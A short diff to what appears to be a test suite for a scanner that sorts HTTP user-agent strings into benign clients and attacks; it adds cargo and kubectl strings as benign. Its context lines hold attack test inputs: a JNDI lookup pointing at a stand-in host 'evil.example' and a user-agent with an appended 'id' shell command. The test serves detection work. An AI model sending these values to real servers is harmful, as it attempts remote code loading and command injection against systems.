@@ -1346,6 +1346,9 @@ def test_scanner_agents(engine: Engine, agent: str, attack: bool) -> None:
         ("Apache-HttpClient/4.5.13 (Java/17.0.2)", False),
         ("Zabbix", False),
         ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0", False),
+        # A program's name and version, as cargo sends them to a registry.
+        ("cargo 1.75.0 (1d8b05cdd 2023-11-20)", False),
+        ("kubectl v1.29.0", False),
         # A client's name first, then anything: the value is no client's.
         ("Mozilla/5.0 ${jndi:ldap://evil.example/a}", True),
         ("curl/8.5.0; id", True),
